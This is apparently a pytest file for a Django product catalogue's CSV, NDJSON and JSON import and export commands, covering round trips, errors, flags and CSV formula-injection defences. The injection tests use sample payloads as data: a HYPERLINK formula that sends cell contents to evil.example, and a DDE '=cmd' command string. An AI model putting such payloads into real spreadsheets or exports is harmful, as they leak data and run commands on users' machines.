"""import_catalogue / export_catalogue (SPEC §16): round trips, formats and every flag."""

from __future__ import annotations

import io
import sys

import orjson
import pytest
from django.core.management import CommandError, call_command

from catalogue.demo import seed_catalogue
from catalogue.models import Product, ProductAttribute, ProductSource
from integrations.catalogue_io import BadRecord, CsvMapping, JsonArrayError, read_json_array
from taxonomy.models import Category
from taxonomy.schemas import CATEGORY_PATCH
from tests.catalogue.factories import ProductFactory
from tests.taxonomy.treecheck import assert_tree_consistent, outline

pytestmark = pytest.mark.django_db


def run(*args, **options) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command(*args, stdout=out, stderr=err, **options)
    return out.getvalue(), err.getvalue()


def export(entity: str, fmt: str = "ndjson") -> str:
    return run("export_catalogue", entity=entity, format=fmt)[0]


def wipe() -> None:
    Product.objects.all().delete()
    Category.objects.update(parent=None)
    Category.objects.all().delete()


def write(tmp_path, name: str, text: str | bytes):
    path = tmp_path / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return str(path)


def product_line(key: str, name: str, **fields) -> str:
    body = {
        "sources": [{"source": "ERP", "sourceId": key}],
        "names": [{"language": "EN", "value": name}],
    }
    return orjson.dumps({**body, **fields}).decode()


@pytest.mark.parametrize("fmt", ["ndjson", "csv", "json"])
def test_export_wipe_import_export_is_identical(tmp_path, fmt):
    seed_catalogue(products=60, categories=15, seed=3)
    Product.objects.filter(pk__in=Product.objects.order_by("pk").values("pk")[:5]).update(
        hidden=True, sku="", parent=None
    )
    first = {entity: export(entity, fmt) for entity in ("categories", "products")}
    assert first["products"].count("Crème") or first["products"]
    wipe()
    for entity in ("categories", "products"):
        path = write(tmp_path, f"{entity}.{fmt}", first[entity])
        out, _ = run("import_catalogue", path, entity=entity, batch_size=7)
        assert " 0 failed" in out, out
    assert_tree_consistent()
    second = {entity: export(entity, fmt) for entity in ("categories", "products")}
    assert second == first
    assert Product.objects.count() == 60 and Category.objects.count() == 15
    assert ProductAttribute.objects.count() == 180 and ProductSource.objects.count() == 120


def test_export_shape_is_the_write_shape():
    seed_catalogue(products=2, categories=3, seed=1)
    record = orjson.loads(export("products").splitlines()[0])
    assert {"id", "version", "createdAt", "lastModifiedAt", "cluster"}.isdisjoint(record)
    assert record["parent"]["source"] == "ERP" and "sourceId" in record["parent"]
    assert record["sources"] == sorted(
        record["sources"], key=lambda s: (s["source"], s["sourceId"])
    )
    category = orjson.loads(export("categories").splitlines()[0])
    assert set(category) == {
        "language",
        "names",
        "descriptions",
        "shortDescriptions",
        "slugs",
        "metadataTitles",
        "metadataDescriptions",
        "metadataKeywords",
        "metadataCanonicalUrls",
        "parent",
        "hidden",
        "priority",
        "sources",
    }


def test_export_to_a_file_reports_the_count(tmp_path):
    ProductFactory.create_batch(3)
    path = tmp_path / "out.ndjson"
    out, _ = run("export_catalogue", entity="products", output=str(path))
    assert out.startswith("products: 3 exported to")
    assert len(path.read_text().splitlines()) == 3


def test_import_summary_and_api_read_back(tmp_path, api):
    path = write(
        tmp_path, "p.ndjson", "\n".join([product_line("A", "Alpha"), "", product_line("B", "Beta")])
    )
    out, _ = run("import_catalogue", path, entity="products")
    assert out.startswith("products: 2 created, 0 updated, 0 skipped, 0 removed, 0 failed (2 items")
    data = api.get("/v2/products/sourceId/B", {"source": "ERP"}).json()["data"]
    assert data["names"] == [{"language": "EN", "value": "Beta"}]
    out, _ = run("import_catalogue", path, entity="products")
    assert "0 created, 0 updated, 2 skipped" in out


def test_errors_file_has_line_record_key_and_error(tmp_path):
    lines = [
        product_line("A", "Alpha"),
        "{not json",
        product_line("B", "Beta", eanCode="123"),
        product_line("A", "Again"),
    ]
    path = write(tmp_path, "p.ndjson", "\n".join(lines))
    errors = tmp_path / "errors.ndjson"
    with pytest.raises(CommandError, match=r"3 item\(s\) failed; see .*errors.ndjson"):
        run("import_catalogue", path, entity="products", errors=str(errors))
    entries = [orjson.loads(line) for line in errors.read_text().splitlines()]
    assert [(e["line"], e["record"], e["key"], e["error"]["code"]) for e in entries] == [
        (2, 2, None, 10005),
        (3, 3, "B", 10007),
        (4, 4, "A", 10020),
    ]
    assert entries[1]["error"]["fields"] == {"eanCode": ["At least 8 characters."]}
    assert entries[1]["lookupKey"] == "sourceId"
    assert Product.objects.count() == 1


def test_errors_without_a_file_go_to_stderr_in_plain_words(tmp_path):
    path = write(tmp_path, "p.ndjson", product_line("B", "Beta", eanCode="123"))
    out, err = io.StringIO(), io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_catalogue", path, entity="products", stdout=out, stderr=err)
    assert "line 1: sourceId [B] 10007" in err.getvalue()
    assert "eanCode: At least 8 characters." in err.getvalue()
    assert "1 failed" in out.getvalue()


def test_dry_run_writes_nothing_but_reports_exactly(tmp_path):
    categories = [
        {"sourceId": "root", "source": "ERP", "names": [{"language": "EN", "value": "Root"}]},
        {
            "sourceId": "kid",
            "source": "ERP",
            "names": [{"language": "EN", "value": "Kid"}],
            "parent": {"source": "ERP", "sourceId": "root"},
        },
    ]
    path = write(tmp_path, "c.ndjson", "\n".join(orjson.dumps(c).decode() for c in categories))
    # batch size 1: the child's parent is only known from the earlier batch, still exact
    out, _ = run("import_catalogue", path, entity="categories", dry_run=True, batch_size=1)
    assert "2 created" in out and "0 failed" in out and "Dry run: nothing was written." in out
    assert not Category.objects.exists()


def test_atomic_import_writes_nothing_when_an_item_fails(tmp_path):
    path = write(
        tmp_path,
        "p.ndjson",
        "\n".join([product_line("A", "Alpha"), product_line("B", "Beta", status="Z")]),
    )
    out = io.StringIO()
    with pytest.raises(CommandError, match="1 item"):
        call_command(
            "import_catalogue",
            path,
            entity="products",
            atomic=True,
            batch_size=1,
            stdout=out,
            stderr=io.StringIO(),
        )
    assert "nothing was written" in out.getvalue()
    assert not Product.objects.exists()
    path = write(tmp_path, "ok.ndjson", product_line("A", "Alpha"))
    run("import_catalogue", path, entity="products", atomic=True)
    assert Product.objects.count() == 1


def test_lookup_key_directives_and_format_flags(tmp_path):
    ProductFactory(sku="S-1", name_en="Old")
    path = write(
        tmp_path,
        "data.txt",
        "\n".join(
            [
                orjson.dumps(
                    {"sku": "S-1", "names": [{"language": "EN", "value": "New"}]}
                ).decode(),
                orjson.dumps(
                    {"sku": "S-2", "names": [{"language": "EN", "value": "Other"}]}
                ).decode(),
            ]
        ),
    )
    out, _ = run(
        "import_catalogue",
        path,
        entity="products",
        lookup_key="sku",
        format="ndjson",
        directives='{"skipCreate": true}',
    )
    assert "0 created, 1 updated, 1 skipped" in out
    assert Product.objects.get().name_en == "New"
    with pytest.raises(CommandError, match="Lookup key 'nope'"):
        run("import_catalogue", path, entity="products", lookup_key="nope")
    with pytest.raises(CommandError, match="skipEverything"):
        run(
            "import_catalogue",
            path,
            entity="products",
            lookup_key="sku",
            directives='{"skipEverything": true}',
        )
    with pytest.raises(CommandError, match="--directives is not JSON"):
        run("import_catalogue", path, entity="products", directives="{")
    with pytest.raises(CommandError, match="--batch-size must be 1 to 2000"):
        run("import_catalogue", path, entity="products", batch_size=2001)


def test_missing_file_and_bad_array_are_plain_errors(tmp_path):
    with pytest.raises(CommandError, match="File not found: /no/such/file.ndjson"):
        run("import_catalogue", "/no/such/file.ndjson", entity="products")
    path = write(tmp_path, "bad.json", '{"not": "an array"}')
    with pytest.raises(CommandError, match="line 1: expected a JSON array"):
        run("import_catalogue", path, entity="products")


def test_stdin_and_progress_bar(tmp_path, monkeypatch):
    data = (product_line("A", "Alpha") + "\n").encode()
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))
    out, err = io.StringIO(), io.StringIO()
    call_command("import_catalogue", "-", entity="products", progress=True, stdout=out, stderr=err)
    assert "1 created" in out.getvalue()
    assert "1 items" in err.getvalue() and "create=1" in err.getvalue()


def test_csv_column_mapping(tmp_path):
    csv_text = (
        "sourceId,source,names.EN,names.nl,hidden,priority,attributes.COLOR,attributes.SIZE,"
        "attributes.TAGS,sources.0.source,sources.0.sourceId,parent.source,parent.sourceId\n"
        'A,ERP,Alpha,Alfa,true,5,red,42,"[""x""]",ERP,A,,\n'
        "B,ERP,Beta,,false,x,,,,,,ERP,missing\n"
    )
    path = write(tmp_path, "p.csv", csv_text)
    errors = tmp_path / "e.ndjson"
    with pytest.raises(CommandError):
        run("import_catalogue", path, entity="products", errors=str(errors))
    product = Product.objects.get()
    assert (product.name_en, product.name_nl, product.hidden, product.priority) == (
        "Alpha",
        "Alfa",
        True,
        5,
    )
    assert list(product.attributes.values_list("name", "value")) == [
        ("COLOR", "red"),
        ("SIZE", 42),
        ("TAGS", ["x"]),
    ]
    entry = orjson.loads(errors.read_text())
    assert entry["line"] == 3 and entry["error"]["fields"] == {"priority": ["Expected an integer."]}


def test_csv_rows_with_too_many_cells_are_bad_records(tmp_path):
    path = write(tmp_path, "p.csv", "sourceId,source,names.EN\nA,ERP,Alpha,extra\n")
    errors = tmp_path / "e.ndjson"
    with pytest.raises(CommandError):
        run("import_catalogue", path, entity="products", errors=str(errors))
    assert orjson.loads(errors.read_text())["line"] == 2


def test_csv_mapping_round_trips_a_record():
    mapping = CsvMapping(CATEGORY_PATCH)
    record = {
        "language": "EN",
        "names": [{"language": "EN", "value": 'Shoes, "quoted"'}],
        "parent": {"source": "ERP", "sourceId": "X"},
        "hidden": False,
        "priority": 3,
        "sources": [{"source": "ERP", "sourceId": "1"}, {"source": "PIM", "sourceId": "2"}],
    }
    columns = mapping.columns(max_sources=2)
    cells = mapping.row(record, columns)
    back = mapping.record(dict(zip(columns, cells, strict=True)))
    assert back == record


def test_categories_import_in_tree_order_across_batches(tmp_path):
    lines = [
        orjson.dumps(
            {
                "sourceId": f"c{i}",
                "source": "ERP",
                "names": [{"language": "EN", "value": f"C{i}"}],
                "parent": {"source": "ERP", "sourceId": f"c{i - 1}"} if i else None,
            }
        ).decode()
        for i in range(5)
    ]
    path = write(tmp_path, "c.ndjson", "\n".join(lines))
    run("import_catalogue", path, entity="categories", batch_size=2)
    assert outline() == [(f"C{i}", i) for i in range(5)]
    assert_tree_consistent()


# --- the streaming JSON array reader -----------------------------------------------------------


def test_json_array_reader_streams_tricky_elements_with_line_numbers():
    text = (
        b'[\n  {"a": "x,]}\\"[", "b": [1, [2, {"c": "\\\\"}]]},\n'
        b'  {"n": "\xc3\xa9"} ,\n\n  7,\n  "s"\n]\n'
    )
    for chunk_size in (1, 2, 3, 5, 64):
        records = list(read_json_array(io.BytesIO(text), chunk_size=chunk_size))
        assert records == [
            (2, {"a": 'x,]}"[', "b": [1, [2, {"c": "\\"}]]}),
            (3, {"n": "é"}),
            (5, 7),
            (6, "s"),
        ], chunk_size


def test_json_array_reader_reports_bad_elements_and_bad_documents():
    records = list(read_json_array(io.BytesIO(b'[{"a": 1}, {nope}, {"b": 2}]')))
    assert records[0] == (1, {"a": 1}) and records[2] == (1, {"b": 2})
    assert isinstance(records[1][1], BadRecord)
    assert list(read_json_array(io.BytesIO(b" [ ] "))) == []
    with pytest.raises(JsonArrayError, match="not closed"):
        list(read_json_array(io.BytesIO(b'[{"a": 1}')))
    with pytest.raises(JsonArrayError, match="empty element"):
        list(read_json_array(io.BytesIO(b"[1,,2]")))


# --- formulas in CSV cells (CSV injection) -----------------------------------------------------

#: texts a spreadsheet would run, and texts that only look close to them
FORMULA_TEXTS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+31 20 555 0100",
    "-5",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    "'=already quoted",
    "''+twice",
    "'t Hoekje",
    "'",
    "plain = text",
]


def csv_rows(text: str) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_export_neutralises_formulas_in_every_text_cell():
    for number, text in enumerate(FORMULA_TEXTS):
        product = ProductFactory(name_en=text, sku=text if text.strip() else "", priority=-5)
        product.sources.create(source="ERP", source_id=f"=cmd|' /C calc'!A{number}")
        product.attributes.create(name="NOTE", value=text, position=0)
    rows = csv_rows(export("products", "csv"))
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULA_TEXTS)
    for row in body:
        for column, cell in zip(header, row, strict=True):
            if column == "priority":
                assert cell == "-5"  # a number, written as one
                continue
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
    names = [row[header.index("names.EN")] for row in body]
    assert names[0] == "'" + FORMULA_TEXTS[0]
    assert "''=already quoted" in names and "'''+twice" in names
    assert "'t Hoekje" in names and "'" in names and "plain = text" in names


def test_csv_import_gives_neutralised_text_back_exactly(tmp_path):
    for number, text in enumerate(FORMULA_TEXTS):
        product = ProductFactory(name_en=text, sku=text, priority=-5)
        product.sources.create(source="ERP", source_id=f"-{number}")
        product.attributes.create(name="NOTE", value=text, position=0)
    before = export("products", "ndjson")
    csv_text = export("products", "csv")
    wipe()
    errors = tmp_path / "e.ndjson"
    path = write(tmp_path, "p.csv", csv_text)
    out, _ = run("import_catalogue", path, entity="products", errors=str(errors))
    assert " 0 failed" in out, errors.read_text()
    assert export("products", "ndjson") == before
    assert export("products", "csv") == csv_text
    assert sorted(Product.objects.values_list("name_en", flat=True)) == sorted(FORMULA_TEXTS)
    assert set(Product.objects.values_list("priority", flat=True)) == {-5}


def test_csv_import_reads_unquoted_and_user_quoted_cells(tmp_path):
    csv_text = (
        "sourceId,source,names.EN,sku,attributes.NOTE\n"
        "A,ERP,=1+1,'-7,'@x\n"
        "B,ERP,'t Hoekje,'plain,'\n"
    )
    out, _ = run("import_catalogue", write(tmp_path, "p.csv", csv_text), entity="products")
    assert " 0 failed" in out, out
    a, b = Product.objects.order_by("name_en")
    values = {p.name_en: (p.sku, p.attributes.get().value) for p in (a, b)}
    assert values == {"=1+1": ("-7", "@x"), "'t Hoekje": ("'plain", "'")}


def test_neutralise_and_restore_are_inverse():
    from integrations.catalogue_io import neutralise, restore

    for text in [*FORMULA_TEXTS, "", "=", "'", "''", "'''=", "a=b", "x"]:
        assert restore(neutralise(text)) == text, text
        assert neutralise(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
